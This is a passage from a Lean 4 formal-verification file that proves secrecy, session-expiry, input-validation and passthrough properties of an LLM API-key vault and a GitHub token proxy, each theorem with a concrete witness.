    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore)
        (secret : String),
      (secret ∈ ghSecrets store ∨
        secret ∈ ghSecrets (githubProxyServe now fresh up req store).store) →
      secret ∉ ghPool fresh req up →
      secret ∉ (githubProxyServe now fresh up req store).body.strings) := by
  constructor
  · intro now fresh req store secret _ hpool hmem
    exact hpool (llm_body_strings_sub now fresh req store hmem)
  · intro now fresh up req store secret _ hpool hmem
    exact hpool (gh_body_strings_sub now fresh up req store hmem)

/-- Witness for C2 at concrete inputs: a stored vault key "sek" and a stored
bearer token "tok" are absent from the respective response bodies. -/
theorem secrecy_invariant_witness :
    ("sek" ∈ vaultSecrets [("sid", ⟨[("openai", "sek")], 0⟩)] ∧
     "sek" ∉ llmPool "f" ⟨"get_session", some "sid", none, none⟩
        [("sid", ⟨[("openai", "sek")], 0⟩)] ∧
     "sek" ∉ (llmProxyServe 0 "f" ⟨"get_session", some "sid", none, none⟩
        [("sid", ⟨[("openai", "sek")], 0⟩)]).body.strings) ∧
    ("tok" ∈ ghSecrets [("sid", ⟨"tok", "classic", 0⟩)] ∧
     "tok" ∉ ghPool "f" ⟨"proxy", none, none, some "sid", some "/user", none⟩
        ⟨200, true, Json.obj [], "perr", none, none, none⟩ ∧
     "tok" ∉ (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "perr", none, none, none⟩
        ⟨"proxy", none, none, some "sid", some "/user", none⟩
        [("sid", ⟨"tok", "classic", 0⟩)]).body.strings) := by
  constructor
  · refine ⟨by decide, by decide, ?_⟩
    exact secrecy_invariant.1 0 "f" ⟨"get_session", some "sid", none, none⟩
      [("sid", ⟨[("openai", "sek")], 0⟩)] "sek" (Or.inl (by decide)) (by decide)
  · refine ⟨by decide, by decide, ?_⟩
    exact secrecy_invariant.2 0 "f" ⟨200, true, Json.obj [], "perr", none, none, none⟩
      ⟨"proxy", none, none, some "sid", some "/user", none⟩
      [("sid", ⟨"tok", "classic", 0⟩)] "tok" (Or.inl (by decide)) (by decide)

/-- C3: create_session with a non-empty token issues exactly one upstream
call, to the identity endpoint with the token as bearer credential; on a
non-2xx upstream status the response is 401 with the invalid-token error and
the table is exactly the swept table (nothing persisted); on a successful
validation the new session is inserted, the response carries the new session
id, the upstream identity object and the lifetime hint 3600 seconds, and —
as long as the token does not collide with the fresh id or the upstream
profile strings — never the token itself. -/
theorem create_session_spec :
    ∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore),
      req.action = "create_session" →
      isBlank req.token = false →
      ((githubProxyServe now fresh up req store).calls =
        [⟨"https://api.github.com/user", "GET", "Bearer " ++ req.token.getD ""⟩]) ∧
      (up.isOk = false →
        (githubProxyServe now fresh up req store).status = 401 ∧
        (githubProxyServe now fresh up req store).body =
          Json.obj [("error", Json.str "Invalid GitHub token")] ∧
        (githubProxyServe now fresh up req store).store = cleanupGh now store) ∧
      (up.isOk = true → up.jsonOk = true →
        (githubProxyServe now fresh up req store).status = 200 ∧
        (githubProxyServe now fresh up req store).store =
          setA fresh
            ⟨req.token.getD "",
              (if isBlank req.tokenType then "classic" else req.tokenType.getD ""), now⟩
            (cleanupGh now store) ∧
        (githubProxyServe now fresh up req store).body =
          Json.obj [("sessionId", Json.str fresh), ("user", up.jsonBody),
            ("expiresIn", Json.num 3600)] ∧
        (req.token.getD "" ≠ fresh → (req.token.getD "") ∉ up.jsonBody.strings →
          (req.token.getD "") ∉ (githubProxyServe now fresh up req store).body.strings)) := by
  intro now fresh up req store hact htok
  obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
  simp only at hact htok
  subst hact
  refine ⟨?_, ?_, ?_⟩
  · by_cases hok : up.isOk = true
    · by_cases hj : up.jsonOk = true
      · simp [githubProxyServe, htok, hok, hj]
      · simp [githubProxyServe, htok, hok, hj]
    · simp [githubProxyServe, htok, hok]
  · intro hok
    simp [githubProxyServe, htok, hok]
  · intro hok hj
    refine ⟨?_, ?_, ?_, ?_⟩
    · simp [githubProxyServe, htok, hok, hj]
    · simp [githubProxyServe, htok, hok, hj]
    · simp [githubProxyServe, htok, hok, hj]
    · intro hne hnb
      simp only [githubProxyServe, htok, hok, hj, Bool.not_true, Bool.false_eq_true,
        if_false, if_true, if_pos rfl, Json.strings, jsonFieldsStrings, List.append_nil,
        List.nil_append, List.mem_append, List.mem_singleton]
      rintro (hc | hc)
      · exact hne hc
      · exact hnb hc

/-- Witness for C3 at concrete inputs: both the failing-validation and the
successful-validation paths, applied at token "tok". -/
theorem create_session_spec_witness :
    isBlank (some "tok") = false ∧
    (githubProxyServe 0 "f" ⟨401, true, Json.obj [], "perr", none, none, none⟩
      ⟨"create_session", some "tok", none, none, none, none⟩ []).status = 401 ∧
    (githubProxyServe 0 "f" ⟨401, true, Json.obj [], "perr", none, none, none⟩
      ⟨"create_session", some "tok", none, none, none, none⟩ []).store = [] ∧
    (githubProxyServe 0 "f"
      ⟨200, true, Json.obj [("login", Json.str "alice")], "perr", none, none, none⟩
      ⟨"create_session", some "tok", none, none, none, none⟩ []).status = 200 ∧
    "tok" ∉ (githubProxyServe 0 "f"
      ⟨200, true, Json.obj [("login", Json.str "alice")], "perr", none, none, none⟩
      ⟨"create_session", some "tok", none, none, none, none⟩ []).body.strings := by
  have hfail := create_session_spec 0 "f" ⟨401, true, Json.obj [], "perr", none, none, none⟩
    ⟨"create_session", some "tok", none, none, none, none⟩ [] rfl (by decide)
  have hsucc := create_session_spec 0 "f"
    ⟨200, true, Json.obj [("login", Json.str "alice")], "perr", none, none, none⟩
    ⟨"create_session", some "tok", none, none, none, none⟩ [] rfl (by decide)
  refine ⟨by decide, (hfail.2.1 (by decide)).1, ?_, (hsucc.2.2 (by decide) rfl).1, ?_⟩
  · rw [(hfail.2.1 (by decide)).2.2]
    rfl
  · exact (hsucc.2.2 (by decide) rfl).2.2.2 (by decide) (by decide)

theorem cleanupVault_idem (now : Int) (store : VaultStore) :
    cleanupVault now (cleanupVault now store) = cleanupVault now store :=
  filter_idem _ _

theorem cleanupGh_idem (now : Int) (store : GhStore) :
    cleanupGh now (cleanupGh now store) = cleanupGh now store :=
  filter_idem _ _

/-- C4: the sweep removes exactly the sessions whose age strictly exceeds the
flavor's TTL (86400000 ms vault, 3600000 ms bearer): lookup after the sweep
succeeds iff lookup before it succeeds and the age is within the TTL; hence a
session created at T is still found at T + TTL − 1 and at T + TTL, and is
gone at T + TTL + 1; and each handler behaves identically on a pre-swept
table, so the sweep that runs before every dispatched action is exactly this
filter. -/
theorem expiry_sweep_exact :
    (∀ (now : Int) (store : VaultStore) (sid : String) (s : ApiKeySession),
      (store.map Prod.fst).Nodup →
      (lookupA sid (cleanupVault now store) = some s ↔
        lookupA sid store = some s ∧ now - s.createdAt ≤ 86400000)) ∧
    (∀ (now : Int) (store : GhStore) (sid : String) (s : GhSession),
      (store.map Prod.fst).Nodup →
      (lookupA sid (cleanupGh now store) = some s ↔
        lookupA sid store = some s ∧ now - s.createdAt ≤ 3600000)) ∧
    (∀ (T : Int) (store : VaultStore) (sid : String) (s : ApiKeySession),
      (store.map Prod.fst).Nodup → lookupA sid store = some s → s.createdAt = T →
      lookupA sid (cleanupVault (T + 86400000 - 1) store) = some s ∧
      lookupA sid (cleanupVault (T + 86400000) store) = some s ∧
      lookupA sid (cleanupVault (T + 86400000 + 1) store) = none) ∧
    (∀ (T : Int) (store : GhStore) (sid : String) (s : GhSession),
      (store.map Prod.fst).Nodup → lookupA sid store = some s → s.createdAt = T →
      lookupA sid (cleanupGh (T + 3600000 - 1) store) = some s ∧
      lookupA sid (cleanupGh (T + 3600000) store) = some s ∧
      lookupA sid (cleanupGh (T + 3600000 + 1) store) = none) ∧
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      llmProxyServe now fresh req (cleanupVault now store) =
        llmProxyServe now fresh req store) ∧
    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore),
      githubProxyServe now fresh up req (cleanupGh now store) =
        githubProxyServe now fresh up req store) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro now store sid s hnd
    unfold cleanupVault
    rw [lookupA_filter hnd]
    simp
  · intro now store sid s hnd
    unfold cleanupGh
    rw [lookupA_filter hnd]
    simp
  · intro T store sid s hnd hlu hT
    refine ⟨?_, ?_, ?_⟩
    · unfold cleanupVault
      rw [lookupA_filter hnd]
      refine ⟨hlu, ?_⟩
      simp only [decide_eq_true_eq]
      omega
    · unfold cleanupVault
      rw [lookupA_filter hnd]
      refine ⟨hlu, ?_⟩
      simp only [decide_eq_true_eq]
      omega
    · cases hc : lookupA sid (cleanupVault (T + 86400000 + 1) store) with
      | none => rfl
      | some v =>
        exfalso
        unfold cleanupVault at hc
        rw [lookupA_filter hnd] at hc
        obtain ⟨hv, hp⟩ := hc
        rw [hlu] at hv
        injection hv with hv
        subst hv
        simp only [decide_eq_true_eq] at hp
        omega
  · intro T store sid s hnd hlu hT
    refine ⟨?_, ?_, ?_⟩
    · unfold cleanupGh
      rw [lookupA_filter hnd]
      refine ⟨hlu, ?_⟩
      simp only [decide_eq_true_eq]
      omega
    · unfold cleanupGh
      rw [lookupA_filter hnd]
      refine ⟨hlu, ?_⟩
      simp only [decide_eq_true_eq]
      omega
    · cases hc : lookupA sid (cleanupGh (T + 3600000 + 1) store) with
      | none => rfl
      | some v =>
        exfalso
        unfold cleanupGh at hc
        rw [lookupA_filter hnd] at hc
        obtain ⟨hv, hp⟩ := hc
        rw [hlu] at hv
        injection hv with hv
        subst hv
        simp only [decide_eq_true_eq] at hp
        omega
  · intro now fresh req store
    simp only [llmProxyServe]
    rw [cleanupVault_idem]
  · intro now fresh up req store
    simp only [githubProxyServe]
    rw [cleanupGh_idem]

/-- Witness for C4 at concrete inputs: a vault session created at time 0 is
still found at 86399999 and 86400000 and gone at 86400001; a bearer session
created at time 0 is still found at 3599999 and 3600000 and gone at 3600001. -/
theorem expiry_sweep_exact_witness :
    (([("a", (⟨[], 0⟩ : ApiKeySession))].map Prod.fst).Nodup ∧
      lookupA "a" [("a", (⟨[], 0⟩ : ApiKeySession))] = some ⟨[], 0⟩) ∧
    (lookupA "a" (cleanupVault ((0 : Int) + 86400000 - 1) [("a", ⟨[], 0⟩)]) = some ⟨[], 0⟩ ∧
      lookupA "a" (cleanupVault ((0 : Int) + 86400000) [("a", ⟨[], 0⟩)]) = some ⟨[], 0⟩ ∧
      lookupA "a" (cleanupVault ((0 : Int) + 86400000 + 1) [("a", ⟨[], 0⟩)]) = none) ∧
    (lookupA "b" (cleanupGh ((0 : Int) + 3600000 - 1) [("b", ⟨"t", "classic", 0⟩)]) =
        some ⟨"t", "classic", 0⟩ ∧
      lookupA "b" (cleanupGh ((0 : Int) + 3600000) [("b", ⟨"t", "classic", 0⟩)]) =
        some ⟨"t", "classic", 0⟩ ∧
      lookupA "b" (cleanupGh ((0 : Int) + 3600000 + 1) [("b", ⟨"t", "classic", 0⟩)]) = none) := by
  refine ⟨⟨by decide, by decide⟩, ?_, ?_⟩
  · exact expiry_sweep_exact.2.2.1 0 [("a", ⟨[], 0⟩)] "a" ⟨[], 0⟩ (by decide) (by decide) rfl
  · exact expiry_sweep_exact.2.2.2.1 0 [("b", ⟨"t", "classic", 0⟩)] "b" ⟨"t", "classic", 0⟩
      (by decide) (by decide) rfl

/-- C5 counterexample: a proxy request that omits sessionId is answered with
the missing-field message but with HTTP status 401, not the 400 the claim
requires for every missing required field. -/
theorem missing_field_status_cex :
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "perr", none, none, none⟩
      ⟨"proxy", none, none, none, some "/user", none⟩ []).status = 401 ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "perr", none, none, none⟩
      ⟨"proxy", none, none, none, some "/user", none⟩ []).body =
      Json.obj [("error", Json.str "Session ID is required")] ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "perr", none, none, none⟩
      ⟨"proxy", none, none, none, some "/user", none⟩ []).status ≠ 400 := by
  refine ⟨rfl, rfl, by decide⟩

/-- C5 amended: every missing-or-empty required field is answered with a
JSON body naming the required fields — with status 400 for create_session's
token, proxy's endpoint, set_key's sessionId/provider/apiKey, and
remove_key's and check_key's sessionId/provider, but with status 401 (not
400) for proxy's missing sessionId. -/
theorem missing_field_validation :
    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore),
      req.action = "create_session" → isBlank req.token = true →
      (githubProxyServe now fresh up req store).status = 400 ∧
      (githubProxyServe now fresh up req store).body =
        Json.obj [("error", Json.str "Token is required")]) ∧
    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore),
      req.action = "proxy" → isBlank req.sessionId = true →
      (githubProxyServe now fresh up req store).status = 401 ∧
      (githubProxyServe now fresh up req store).body =
        Json.obj [("error", Json.str "Session ID is required")]) ∧
    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore)
        (sess : GhSession),
      req.action = "proxy" → isBlank req.sessionId = false →
      lookupA (req.sessionId.getD "") (cleanupGh now store) = some sess →
      isBlank req.endpoint = true →
      (githubProxyServe now fresh up req store).status = 400 ∧
      (githubProxyServe now fresh up req store).body =
        Json.obj [("error", Json.str "Endpoint is required")]) ∧
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      req.action = "set_key" →
      (isBlank req.sessionId || isBlank req.provider || isBlank req.apiKey) = true →
      (llmProxyServe now fresh req store).status = 400 ∧
      (llmProxyServe now fresh req store).body =
        Json.obj [("error", Json.str "Session ID, provider, and API key are required")]) ∧
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      req.action = "remove_key" →
      (isBlank req.sessionId || isBlank req.provider) = true →
      (llmProxyServe now fresh req store).status = 400 ∧
      (llmProxyServe now fresh req store).body =
        Json.obj [("error", Json.str "Session ID and provider are required")]) ∧
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      req.action = "check_key" →
      (isBlank req.sessionId || isBlank req.provider) = true →
      (llmProxyServe now fresh req store).status = 400 ∧
      (llmProxyServe now fresh req store).body =
        Json.obj [("error", Json.str "Session ID and provider are required")]) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro now fresh up req store hact hb
    obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
    simp only at hact hb
    subst hact
    constructor
    · simp [githubProxyServe, hb]
    · simp [githubProxyServe, hb]
  · intro now fresh up req store hact hb
    obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
    simp only at hact hb
    subst hact
    constructor
    · simp [githubProxyServe, hb]
    · simp [githubProxyServe, hb]
  · intro now fresh up req store sess hact hb hlu hep
    obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
    simp only at hact hb hlu hep
    subst hact
    constructor
    · simp [githubProxyServe, hb, hlu, hep]
    · simp [githubProxyServe, hb, hlu, hep]
  · intro now fresh req store hact hb
    obtain ⟨act, osid, oprov, okey⟩ := req
    simp only at hact hb
    subst hact
    constructor
    · simp [llmProxyServe, hb]
    · simp [llmProxyServe, hb]
  · intro now fresh req store hact hb
    obtain ⟨act, osid, oprov, okey⟩ := req
    simp only at hact hb
    subst hact
    constructor
    · simp [llmProxyServe, hb]
    · simp [llmProxyServe, hb]
  · intro now fresh req store hact hb
    obtain ⟨act, osid, oprov, okey⟩ := req
    simp only at hact hb
    subst hact
    constructor
    · simp [llmProxyServe, hb]
    · simp [llmProxyServe, hb]

/-- Witness for C5 at concrete inputs: each validation branch exercised. -/
theorem missing_field_validation_witness :
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"create_session", none, none, none, none, none⟩ []).status = 400 ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"proxy", none, none, some "", none, none⟩ []).status = 401 ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"proxy", none, none, some "s", none, none⟩
      [("s", ⟨"t", "classic", 0⟩)]).status = 400 ∧
    (llmProxyServe 0 "f" ⟨"set_key", some "s", some "openai", none⟩ []).status = 400 ∧
    (llmProxyServe 0 "f" ⟨"remove_key", some "s", none, none⟩ []).status = 400 ∧
    (llmProxyServe 0 "f" ⟨"check_key", none, some "openai", none⟩ []).status = 400 := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · exact (missing_field_validation.1 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"create_session", none, none, none, none, none⟩ [] rfl rfl).1
  · exact (missing_field_validation.2.1 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"proxy", none, none, some "", none, none⟩ [] rfl (by decide)).1
  · exact (missing_field_validation.2.2.1 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"proxy", none, none, some "s", none, none⟩ [("s", ⟨"t", "classic", 0⟩)]
      ⟨"t", "classic", 0⟩ rfl (by decide) (by decide) rfl).1
  · exact (missing_field_validation.2.2.2.1 0 "f" ⟨"set_key", some "s", some "openai", none⟩
      [] rfl (by decide)).1
  · exact (missing_field_validation.2.2.2.2.1 0 "f" ⟨"remove_key", some "s", none, none⟩
      [] rfl (by decide)).1
  · exact (missing_field_validation.2.2.2.2.2 0 "f" ⟨"check_key", none, some "openai", none⟩
      [] rfl (by decide)).1

theorem lookupA_cleanupVault {now : Int} {store : VaultStore} {sid : String}
    (hnd : (store.map Prod.fst).Nodup) (s : ApiKeySession) :
    lookupA sid (cleanupVault now store) = some s ↔
      lookupA sid store = some s ∧ now - s.createdAt ≤ 86400000 := by
  unfold cleanupVault
  rw [lookupA_filter hnd]
  simp

theorem lookupA_cleanupGh {now : Int} {store : GhStore} {sid : String}
    (hnd : (store.map Prod.fst).Nodup) (s : GhSession) :
    lookupA sid (cleanupGh now store) = some s ↔
      lookupA sid store = some s ∧ now - s.createdAt ≤ 3600000 := by
  unfold cleanupGh
  rw [lookupA_filter hnd]
  simp

theorem check_key_body (now : Int) (fr : String) (st : VaultStore) (sid p : String)
    (hsid : sid ≠ "") (hp : p ≠ "") :
    (llmProxyServe now fr ⟨"check_key", some sid, some p, none⟩ st).body =
      Json.obj [("hasKey", Json.bool
        (match lookupA sid (cleanupVault now st) with
         | some s =>
           match lookupA p s.keys with
           | some v => !(v == "")
           | none => false
         | none => false))] := by
  simp [llmProxyServe, isBlank, hsid, hp]

theorem set_key_store (now : Int) (fr : String) (st : VaultStore) (sid p k : String)
    (hsid : sid ≠ "") (hp : p ≠ "") (hk : k ≠ "") :
    (llmProxyServe now fr ⟨"set_key", some sid, some p, some k⟩ st).store =
      setA sid
        ⟨setA p k ((lookupA sid (cleanupVault now st)).getD ⟨[], now⟩).keys,
          ((lookupA sid (cleanupVault now st)).getD ⟨[], now⟩).createdAt⟩
        (cleanupVault now st) := by
  simp [llmProxyServe, isBlank, hsid, hp, hk]

theorem remove_key_store (now : Int) (fr : String) (st : VaultStore) (sid p : String)
    (hsid : sid ≠ "") (hp : p ≠ "") :
    (llmProxyServe now fr ⟨"remove_key", some sid, some p, none⟩ st).store =
      (match lookupA sid (cleanupVault now st) with
       | some s => setA sid ⟨removeA p s.keys, s.createdAt⟩ (cleanupVault now st)
       | none => cleanupVault now st) := by
  cases hlu : lookupA sid (cleanupVault now st) with
  | some s => simp [llmProxyServe, isBlank, hsid, hp, hlu]
  | none => simp [llmProxyServe, isBlank, hsid, hp, hlu]

/-- C6: in the vault flavor, set_key with a non-empty key makes check_key on
the same live session and provider answer hasKey = true; a subsequent
remove_key makes check_key answer hasKey = false; and check_key answers
false whenever the session or the provider entry is absent. -/
theorem vault_roundtrip :
    (∀ (now1 now2 : Int) (f1 f2 : String) (st : VaultStore) (sid p k : String),
      (st.map Prod.fst).Nodup → sid ≠ "" → p ≠ "" → k ≠ "" →
      (∀ s, lookupA sid (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store
          = some s → now2 - s.createdAt ≤ 86400000) →
      (llmProxyServe now2 f2 ⟨"check_key", some sid, some p, none⟩
          (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).body =
        Json.obj [("hasKey", Json.bool true)] ∧
      (∀ (now3 : Int) (f3 fr : String),
        (llmProxyServe now3 f3 ⟨"check_key", some sid, some p, none⟩
            (llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
              (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store).body =
          Json.obj [("hasKey", Json.bool false)])) ∧
    (∀ (now : Int) (fr : String) (st : VaultStore) (sid p : String),
      sid ≠ "" → p ≠ "" → lookupA sid (cleanupVault now st) = none →
      (llmProxyServe now fr ⟨"check_key", some sid, some p, none⟩ st).body =
        Json.obj [("hasKey", Json.bool false)]) ∧
    (∀ (now : Int) (fr : String) (st : VaultStore) (sid p : String) (s : ApiKeySession),
      sid ≠ "" → p ≠ "" → lookupA sid (cleanupVault now st) = some s →
      lookupA p s.keys = none →
      (llmProxyServe now fr ⟨"check_key", some sid, some p, none⟩ st).body =
        Json.obj [("hasKey", Json.bool false)]) := by
  refine ⟨?_, ?_, ?_⟩
  · intro now1 now2 f1 f2 st sid p k hnd hsid hp hk hlive
    have hstore1 := set_key_store now1 f1 st sid p k hsid hp hk
    have hnd1 : ((llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store.map
        Prod.fst).Nodup := by
      rw [hstore1]
      exact nodup_keys_setA _ _ _ (nodup_keys_filter _ _ hnd)
    have hlu1 : lookupA sid (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store
        = some ⟨setA p k ((lookupA sid (cleanupVault now1 st)).getD ⟨[], now1⟩).keys,
            ((lookupA sid (cleanupVault now1 st)).getD ⟨[], now1⟩).createdAt⟩ := by
      rw [hstore1]
      exact lookupA_setA_self _ _ _
    have hbound := hlive _ hlu1
    constructor
    · have hclean : lookupA sid (cleanupVault now2
          (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store)
          = some ⟨setA p k ((lookupA sid (cleanupVault now1 st)).getD ⟨[], now1⟩).keys,
              ((lookupA sid (cleanupVault now1 st)).getD ⟨[], now1⟩).createdAt⟩ := by
        rw [lookupA_cleanupVault hnd1]
        exact ⟨hlu1, hbound⟩
      rw [check_key_body now2 f2 _ sid p hsid hp, hclean]
      simp [lookupA_setA_self, hk]
    · intro now3 f3 fr
      have hstore2 := remove_key_store now2 fr
        (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store sid p hsid hp
      rw [check_key_body now3 f3
        (llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
          (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store
        sid p hsid hp]
      cases hlu2 : lookupA sid (cleanupVault now2
          (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store) with
      | some s =>
        rw [hlu2] at hstore2
        have hnd2 : ((llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
            (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store.map
            Prod.fst).Nodup := by
          rw [hstore2]
          exact nodup_keys_setA _ _ _ (nodup_keys_filter _ _ hnd1)
        cases hlu3 : lookupA sid (cleanupVault now3
            (llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
              (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store) with
        | none => rfl
        | some v =>
          have hlu3' := hlu3
          rw [lookupA_cleanupVault hnd2] at hlu3'
          obtain ⟨hv, _⟩ := hlu3'
          rw [hstore2, lookupA_setA_self] at hv
          injection hv with hv
          rw [← hv]
          simp [lookupA_removeA_self]
      | none =>
        rw [hlu2] at hstore2
        have hnone2 : lookupA sid (llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
            (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store
            = none := by
          rw [hstore2]
          exact hlu2
        have hnone3 : lookupA sid (cleanupVault now3
            (llmProxyServe now2 fr ⟨"remove_key", some sid, some p, none⟩
              (llmProxyServe now1 f1 ⟨"set_key", some sid, some p, some k⟩ st).store).store)
            = none := by
          unfold cleanupVault
          exact lookupA_filter_none _ hnone2
        rw [hnone3]
  · intro now fr st sid p hsid hp hlu
    rw [check_key_body now fr st sid p hsid hp, hlu]
  · intro now fr st sid p s hsid hp hlu hkp
    rw [check_key_body now fr st sid p hsid hp, hlu]
    simp [hkp]

/-- Witness for C6 at concrete inputs: set then check (true), set, remove,
check (false), and the two absent cases (false). -/
theorem vault_roundtrip_witness :
    (llmProxyServe 5 "f2" ⟨"check_key", some "s", some "openai", none⟩
        (llmProxyServe 0 "f1" ⟨"set_key", some "s", some "openai", some "k1"⟩ []).store).body =
      Json.obj [("hasKey", Json.bool true)] ∧
    (llmProxyServe 9 "f3" ⟨"check_key", some "s", some "openai", none⟩
        (llmProxyServe 5 "f4" ⟨"remove_key", some "s", some "openai", none⟩
          (llmProxyServe 0 "f1" ⟨"set_key", some "s", some "openai", some "k1"⟩ []).store).store).body =
      Json.obj [("hasKey", Json.bool false)] ∧
    (llmProxyServe 0 "f5" ⟨"check_key", some "nosuch", some "openai", none⟩ []).body =
      Json.obj [("hasKey", Json.bool false)] ∧
    (llmProxyServe 0 "f6" ⟨"check_key", some "s", some "anthropic", none⟩
        [("s", ⟨[("openai", "k1")], 0⟩)]).body =
      Json.obj [("hasKey", Json.bool false)] := by
  have h := vault_roundtrip.1 0 5 "f1" "f2" [] "s" "openai" "k1" (by decide)
    (by decide) (by decide) (by decide) (by decide)
  refine ⟨h.1, h.2 9 "f3" "f4", ?_, ?_⟩
  · exact vault_roundtrip.2.1 0 "f5" [] "nosuch" "openai" (by decide) (by decide) (by decide)
  · exact vault_roundtrip.2.2 0 "f6" [("s", ⟨[("openai", "k1")], 0⟩)] "s" "anthropic"
      ⟨[("openai", "k1")], 0⟩ (by decide) (by decide) (by decide) (by decide)

theorem removeA_of_lookup_none {α : Type} {k : String} {l : List (String × α)}
    (h : lookupA k l = none) : removeA k l = l := by
  induction l with
  | nil => rfl
  | cons e rest ih =>
    by_cases he : e.1 = k
    · rw [lookupA, if_pos he] at h
      exact absurd h (by simp)
    · rw [lookupA, if_neg he] at h
      rw [removeA, if_neg he, ih h]

/-- C7: a proxy request with a live session and non-empty endpoint answers
with body data/status/rateLimit, where data is the upstream body decoded as
JSON (the empty object when decoding fails), status is the upstream status,
rateLimit holds the three rate-limit header values, and the outer HTTP
status mirrors a failing upstream status and is 200 otherwise. -/
theorem proxy_passthrough :
    ∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore)
      (sess : GhSession),
      req.action = "proxy" → isBlank req.sessionId = false →
      lookupA (req.sessionId.getD "") (cleanupGh now store) = some sess →
      isBlank req.endpoint = false →
      (githubProxyServe now fresh up req store).body =
        Json.obj [("data", if up.jsonOk = true then up.jsonBody else Json.obj []),
          ("status", Json.num (Int.ofNat up.status)),
          ("rateLimit", Json.obj [("limit", optStrJson up.rlLimit),
            ("remaining", optStrJson up.rlRemaining), ("reset", optStrJson up.rlReset)])] ∧
      (githubProxyServe now fresh up req store).status =
        (if up.isOk = true then 200 else up.status) := by
  intro now fresh up req store sess hact hb hlu hep
  obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
  simp only at hact hb hlu hep
  subst hact
  constructor
  · simp [githubProxyServe, hb, hlu, hep]
  · simp [githubProxyServe, hb, hlu, hep]

/-- Witness for C7: a simulated upstream 404 with JSON body carrying
message "Not Found" yields outer status 404 and that message under data. -/
theorem proxy_passthrough_witness :
    (githubProxyServe 0 "f"
      ⟨404, true, Json.obj [("message", Json.str "Not Found")], "perr",
        some "60", some "59", some "1"⟩
      ⟨"proxy", none, none, some "s", some "/missing", none⟩
      [("s", ⟨"t", "classic", 0⟩)]).status = 404 ∧
    (githubProxyServe 0 "f"
      ⟨404, true, Json.obj [("message", Json.str "Not Found")], "perr",
        some "60", some "59", some "1"⟩
      ⟨"proxy", none, none, some "s", some "/missing", none⟩
      [("s", ⟨"t", "classic", 0⟩)]).body =
      Json.obj [("data", Json.obj [("message", Json.str "Not Found")]),
        ("status", Json.num 404),
        ("rateLimit", Json.obj [("limit", Json.str "60"), ("remaining", Json.str "59"),
          ("reset", Json.str "1")])] := by
  have h := proxy_passthrough 0 "f"
    ⟨404, true, Json.obj [("message", Json.str "Not Found")], "perr",
      some "60", some "59", some "1"⟩
    ⟨"proxy", none, none, some "s", some "/missing", none⟩
    [("s", ⟨"t", "classic", 0⟩)] ⟨"t", "classic", 0⟩ rfl (by decide) (by decide) (by decide)
  constructor
  · rw [h.2]
    rfl
  · rw [h.1]
    rfl

theorem cleanupVault_removeA (now : Int) (sid : String) (store : VaultStore) :
    cleanupVault now (removeA sid (cleanupVault now store)) =
      removeA sid (cleanupVault now store) := by
  unfold cleanupVault
  rw [← removeA_filter_comm, filter_idem]

theorem cleanupGh_removeA (now : Int) (sid : String) (store : GhStore) :
    cleanupGh now (removeA sid (cleanupGh now store)) =
      removeA sid (cleanupGh now store) := by
  unfold cleanupGh
  rw [← removeA_filter_comm, filter_idem]

/-- C8: destroy_session always answers success with status 200 — for known,
unknown, or omitted ids; when the id is unknown or omitted the table is the
swept table, unchanged by the action; and repeating destroy_session with the
same arguments leaves the table fixed, in both broker flavors. -/
theorem destroy_session_spec :
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      req.action = "destroy_session" →
      (llmProxyServe now fresh req store).status = 200 ∧
